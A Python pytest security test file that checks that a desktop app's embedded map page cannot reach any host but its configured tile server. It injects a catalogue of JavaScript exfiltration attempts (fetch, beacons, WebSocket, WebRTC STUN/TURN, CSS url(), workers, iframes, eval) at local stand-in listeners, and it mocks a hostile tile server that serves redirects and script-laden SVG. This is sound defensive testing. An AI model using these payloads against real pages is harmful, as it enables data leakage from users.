"""The map's page, tried from the inside: whatever its scripts attempt, nothing reaches anybody but the configured tile server."""

import itertools
import json
import re
import select
import socket
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing

import pytest
from PySide6.QtWidgets import QApplication
from pytest_httpserver import HTTPServer
from werkzeug import Response

from tests.fakes.map_driver import MapDriver
from tests.security.canary import PIXEL
from tests.security.corpus import Trap
from ui.map.tiles import Tiles

PLACES = (("one", 106.80, -6.20, 0), ("two", 106.90, -6.20, 3), ("three", 106.85, -6.25, 5))
TILE = re.compile(r"/tiles/\d{1,2}/\d{1,7}/\d{1,7}\.png")
WAIT = "new Promise((done) => setTimeout(done, 60))"
# «where» is an address of somebody else; each is run in the real page.
ATTEMPTS = (
    "fetch('«where»')",
    "fetch('«where»', {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true})",
    "fetch(new Request('«where»', {cache: 'force-cache', credentials: 'include'}))",
    "new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', '«where»'); x.send(); })",
    "new Promise((done) => { const s = new WebSocket('«socket»'); s.onclose = s.onerror = done; })",
    "new Promise((done) => { const e = new EventSource('«where»'); e.onerror = () => { e.close(); done(); }; })",
    "navigator.sendBeacon('«where»', 'secret')",
    "new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = '«where»'; })",
    "new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.srcset = '«where» 2x'; i.sizes = '1px'; })",
    "add('iframe', {src: '«where»'})",
    "add('iframe', {sandbox: 'allow-scripts'}).src = '«where»'",
    "add('object', {data: '«where»'})",
    "add('embed', {src: '«where»'})",
    "add('video', {src: '«where»', autoplay: true})",
    "add('audio', {src: '«where»', autoplay: true})",
    "add('link', {rel: 'stylesheet', href: '«where»'})",
    "add('link', {rel: 'preload', as: 'image', href: '«where»'})",
    "add('link', {rel: 'prefetch', href: '«where»'})",
    "add('link', {rel: 'prerender', href: '«where»'})",
    "add('link', {rel: 'preconnect', href: '«where»'})",
    "add('link', {rel: 'dns-prefetch', href: '«where»'})",
    "add('link', {rel: 'modulepreload', href: '«where»'})",
    "add('link', {rel: 'icon', href: '«where»'})",
    "add('link', {rel: 'manifest', href: '«where»'})",
    "add('base', {href: '«where»'})",
    "add('meta', {'http-equiv': 'refresh', content: '0;url=«where»'})",
    "add('div', {style: 'background-image: url(«where»)'})",
    "document.body.style.backgroundImage = 'url(«where»)'",
    "document.body.style.cursor = 'url(«where»), auto'",
    "rule('.map { background: url(«where») !important }')",
    "rule('.map { mask: url(«where»); cursor: url(«where»), auto; list-style: url(«where») }')",
    "rule('@font-face { font-family: x; src: url(«where») }'), document.body.style.fontFamily = 'x'",
    "document.styleSheets[0].insertRule('@import url(«where»)')",
    "new FontFace('y', 'url(«where»)').load()",
    "add('form', {action: '«where»', method: 'POST'}).submit()",
    "add('form', {action: '«where»', target: '_blank'}).requestSubmit()",
    "add('a', {href: '«where»', ping: '«where»'}).click()",
    "add('a', {href: '«where»', download: 'x'}).click()",
    "window.open('«where»')",
    "void (location.href = '«where»')",
    "location.replace('«where»')",
    "history.pushState({}, '', '«where»')",
    "new Worker('«where»')",
    "new SharedWorker('«where»')",
    "navigator.serviceWorker.register('«where»')",
    "new Worker('crop://map/projection.js')",
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"«where»\")'])))",
    "import('«where»')",
    "import('crop://map/projection.js?«where»')",
    "add('script', {src: '«where»'})",
    'add(\'script\', {type: \'speculationrules\'}).textContent = \'{"prefetch":[{"source":"list","urls":["«where»"]}]}\'',
    "add('script').textContent = 'fetch(\"«where»\")'",
    "document.body.setAttribute('onclick', 'fetch(\"«where»\")'), document.body.click()",
    "setTimeout('fetch(\"«where»\")', 0)",
    "eval('fetch(\"«where»\")')",
    "void (location.href = 'javascript:fetch(\"«where»\")')",
    "void (location.href = 'data:text/html,<img src=«where»>')",
    "add('iframe', {src: 'data:text/html,<img src=«where»>'})",
    "add('iframe', {srcdoc: '<img src=«where»>'})",
    "add('iframe').contentWindow.fetch('«where»')",
    "add('iframe').contentDocument.body.appendChild(document.createElement('img')).src = '«where»'",
    "stun('turn:«host»?transport=tcp', add('iframe').contentWindow)",
    "add('iframe', {src: URL.createObjectURL(new Blob(['<img src=«where»>'], {type: 'text/html'}))})",
    "document.write('<img src=«where»>')",
    "document.body.insertAdjacentHTML('beforeend', '<img src=«where»>')",
    "document.createRange().createContextualFragment('<img src=«where»>')",
    "document.body.append(new DOMParser().parseFromString('<img src=«where»>', 'text/html').body)",
    "add('svg').outerHTML = '<image href=«where»>'",
    "stun('stun:«host»')",
    "stun('turn:«host»?transport=tcp')",
    "stun('turns:«host»?transport=tcp')",
    "new WebTransport('«where»'.replace('http:', 'https:'))",
    "navigator.registerProtocolHandler('web+x', '«where»?%s')",
    "navigator.share({url: '«where»'})",
    "crop.desk._map.getContainer().requestFullscreen()",
    "Notification.requestPermission()",
    "new Promise((done) => navigator.geolocation.getCurrentPosition(done, done))",
    "navigator.mediaDevices.getUserMedia({audio: true})",
    "navigator.clipboard.readText()",
    "add('input', {type: 'file'}).click()",
    "window.print()",
    "alert('x') ?? confirm('x') ?? prompt('x')",
    "add('meta', {'http-equiv': 'Content-Security-Policy', content: 'default-src *'})",
)
TOOLS = """
window.add = (tag, attributes = {}) => {
  const element = document.createElement(tag);
  Object.entries(attributes).forEach(([name, value]) => element.setAttribute(name, value));
  (tag === "link" || tag === "meta" || tag === "base" ? document.head : document.body).append(element);
  return element;
};
window.rule = (text) => document.styleSheets[0].insertRule(text, document.styleSheets[0].cssRules.length);
window.stun = async (url, where = window) => {
  const peer = new where.RTCPeerConnection({iceServers: [{urls: url, username: "u", credential: "c"}]});
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
};
0
"""


class Abroad:
    """Somebody else, listening on a TCP and a UDP port of the same number; anything that comes is a leak."""

    def __init__(self) -> None:
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.host = f"127.0.0.1:{self._tcp.getsockname()[1]}"
        self._udp.bind(self._tcp.getsockname())

    def heard(self) -> list[str]:
        """What knocked."""
        knocks = select.select([self._tcp, self._udp], [], [], 0)[0]
        return ["TCP" if one is self._tcp else "UDP" for one in knocks]

    def close(self) -> None:
        """Listen no more."""
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def abroad() -> Iterator[Abroad]:
    with closing(Abroad()) as abroad:
        yield abroad
        assert abroad.heard() == []


def attempt(driver: MapDriver, where: str, heard: Callable[[], object], attempts: Sequence[str] = ATTEMPTS) -> None:
    """Try everything, in the page itself; the page must still be there afterwards."""
    driver.web.page().runJavaScript(TOOLS)
    host = where.partition("//")[2].partition("/")[0]
    for expression in attempts:
        made = expression.replace("«where»", where).replace("«socket»", where.replace("http", "ws", 1)).replace("«host»", host)
        run = made if made.startswith("void") else f"await ({made});"
        driver.ask(f"Promise.race([{WAIT}, (async () => {{ {run} }})()]).then(() => 0, () => 0)")
        assert not heard(), expression
    driver.ask("new Promise((done) => setTimeout(done, 500))")
    assert driver.ask("location.href") == "crop://map/"
    assert driver.place("one") is not None
    assert QApplication.activeModalWidget() is None


@pytest.mark.expects_errors
def test_without_a_tile_server_nothing_goes_out_at_all(map_driver: MapDriver, abroad: Abroad) -> None:
    map_driver.open(*PLACES)
    attempt(map_driver, f"http://{abroad.host}/x.png", abroad.heard)


@pytest.mark.expects_errors
def test_with_a_tile_server_nobody_else_is_reached(map_driver: MapDriver, abroad: Abroad, httpserver: HTTPServer) -> None:
    httpserver.expect_request(TILE).respond_with_data(PIXEL, headers={"Set-Cookie": "track=1"}, content_type="image/png")
    map_driver.open(*PLACES, tiles=tiles_of(httpserver))
    map_driver.wait_for("[...document.querySelectorAll('.leaflet-tile')].some((tile) => tile.naturalWidth === 1)")
    attempt(map_driver, f"http://{abroad.host}/x.png", abroad.heard)
    assert_only_tiles(httpserver)


@pytest.mark.expects_errors
def test_the_page_asks_the_tile_server_itself_for_nothing(map_driver: MapDriver, httpserver: HTTPServer) -> None:
    """The app fetches the tiles: a script in the page can name a tile, and can tell the server nothing else."""
    httpserver.expect_request(TILE).respond_with_data(PIXEL, content_type="image/png")
    map_driver.open(*PLACES, tiles=tiles_of(httpserver))
    map_driver.wait_for("[...document.querySelectorAll('.leaflet-tile')].some((tile) => tile.naturalWidth === 1)")
    far = "/tiles/1/1/1.png"  # the map itself never goes out so far
    attempt(map_driver, httpserver.url_for(far), lambda: far in {request.path for request, _ in httpserver.log}, ATTEMPTS[:20])
    names = (
        "tiles/1/1/1",
        "tiles/1/2/0",
        "tiles/01/1/1",
        "tiles/1/1/1?x=secret",
        "tiles/1/1/1%2f",
        "tiles/23/0/0",
        "tiles/1/1/1@2x",
    )
    answers = [map_driver.ask(f"fetch({json.dumps(name)}).then((answer) => answer.ok, () => false)") for name in names]
    assert answers == [True, *[False] * (len(names) - 1)]
    assert_only_tiles(httpserver)


@pytest.mark.expects_errors
def test_files_resources_and_other_schemes_stay_shut(map_driver: MapDriver, trap: Trap) -> None:
    map_driver.open(*PLACES)
    for where in (f"file://{trap.file}", "qrc:/qtwebchannel/qwebchannel.js", "crop://elsewhere/map.css", "chrome://version/"):
        attempt(map_driver, where, lambda: False, [one for one in ATTEMPTS[:50:2] if "«host»" not in one])
    seen = "fetch('qrc:/qtwebchannel/qwebchannel.js').then((answer) => answer.text(), () => 'shut')"
    assert map_driver.ask(seen) == "shut"


@pytest.mark.expects_errors
def test_a_tile_server_that_turns_hostile_gets_nothing_and_gives_nothing(
    map_driver: MapDriver, abroad: Abroad, httpserver: HTTPServer
) -> None:
    away = f"http://{abroad.host}/x.png"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{away}\')"><image href="{away}"/></svg>'
    answers: Iterator[Callable[[], Response]] = itertools.cycle(
        [
            lambda: Response("", 302, {"Location": away}),
            lambda: Response(svg, content_type="image/svg+xml"),
            lambda: Response(svg, content_type="image/png"),
            lambda: Response(f"<script>fetch('{away}')</script>", content_type="text/html"),
            lambda: Response("", 401, {"WWW-Authenticate": 'Basic realm="x"'}),
            lambda: Response(bytes(3 * 1024 * 1024), content_type="image/png"),
            lambda: Response(PIXEL, content_type="image/png", headers={"Link": f"<{away}>; rel=preload; as=image"}),
        ]
    )
    httpserver.expect_request(TILE).respond_with_handler(lambda _request: next(answers)())
    map_driver.open(*PLACES, tiles=tiles_of(httpserver))
    map_driver.wait_for("document.querySelectorAll('.leaflet-tile-loaded').length > 3")
    assert QApplication.activeModalWidget() is None
    assert map_driver.ask("window.pwned") is None
    assert_only_tiles(httpserver)


def tiles_of(server: HTTPServer) -> Tiles:
    """The tiles of a server."""
    return Tiles(f"http://{server.host}:{server.port}/tiles/{{z}}/{{x}}/{{y}}.png", "somebody")


def assert_only_tiles(server: HTTPServer) -> None:
    """Only tiles were asked for, and nothing was told about who asks."""
    assert server.log
    for request, _ in server.log:
        assert request.method == "GET"
        assert TILE.fullmatch(request.full_path.rstrip("?")), request.full_path
        assert not {"Cookie", "Referer", "Authorization", "Origin"} & set(request.headers.keys())
        assert request.headers["User-Agent"] == "crop-officer"
